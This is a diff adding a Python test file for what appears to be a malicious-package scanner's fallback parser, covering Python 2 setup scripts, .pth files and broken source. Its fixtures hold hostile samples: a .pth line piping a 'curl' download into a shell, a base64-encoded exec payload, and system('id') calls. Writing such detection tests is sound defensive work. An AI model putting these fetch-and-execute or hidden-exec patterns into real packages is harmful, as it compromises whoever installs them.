@@ -1,0 +1,80 @@
+"""The tolerant token pass for text `ast` rejects (Python 2, syntax errors, .pth lines)."""
+
+from __future__ import annotations
+
+import base64
+
+from analysis_support import apis, lines, run
+
+from mphunter_gate.types import ParseMode, ScriptKind
+
+PY2 = """
+import urllib2 as u
+from os import system
+import base64
+print "installing"
+try:
+    u.urlopen("http://x").read()
+except Exception, e:
+    print e
+system("id")
+exec "import os"
+exec(base64.b64decode("%s"))
+"""
+
+
+def test_python2_setup_is_parsed_by_tokens_with_aliases_and_decoding() -> None:
+    src = PY2 % base64.b64encode(b"import socket\nsocket.socket()\n").decode()
+    a = run(src)
+    assert a.parse is ParseMode.TOKENS
+    assert a.error is None
+    assert lines(a) == [
+        ("urllib2.urlopen", 7),
+        ("read", 7),
+        ("os.system", 10),
+        ("exec", 11),
+        ("base64.b64decode", 12),
+        ("exec", 12),
+        ("socket.socket", 12),
+    ]
+    assert [(d.line, d.method) for d in a.decoded] == [(12, "base64")]
+
+
+def test_pth_import_line_is_analysed() -> None:
+    a = run(
+        "import os; os.system('curl x | sh')\n",
+        path="evil.pth",
+        kind=ScriptKind.PTH,
+    )
+    assert a.parse is ParseMode.AST
+    assert lines(a) == [("os.system", 1)]
+
+
+def test_syntax_error_midway_keeps_calls_on_both_sides() -> None:
+    src = "import os\nos.getcwd()\ndef broken(:\n    pass\nos.remove('x')\n"
+    a = run(src)
+    assert a.parse is ParseMode.TOKENS
+    assert apis(a) == ["os.getcwd", "os.remove"]
+
+
+def test_unterminated_string_falls_back_to_regex_scan() -> None:
+    src = 'import subprocess\nsubprocess.call(["id"])\nx = """never closed\nsubprocess.Popen(1)\n'
+    a = run(src)
+    assert a.parse is ParseMode.TOKENS
+    assert apis(a) == ["subprocess.call", "subprocess.Popen"]
+
+
+def test_definitions_and_keywords_are_not_calls() -> None:
+    src = "def f(x):\n    if (x): return (x)\nclass A(object): pass\nprint 'x'\n"
+    a = run(src)
+    # Nothing callable was found and ast failed: an explicit failure, not a clean result.
+    assert a.parse is ParseMode.FAILED
+    assert a.sequences == ()
+    assert a.error is not None and "SyntaxError" in a.error
+
+
+def test_non_utf8_text_is_analysed() -> None:
+    raw = b"# \xff\xfe latin junk \xe9\nimport os\nos.system('id')\n"
+    a = run(raw.decode("utf-8", "surrogateescape"))
+    assert a.parse is ParseMode.AST
+    assert apis(a) == ["os.system"]
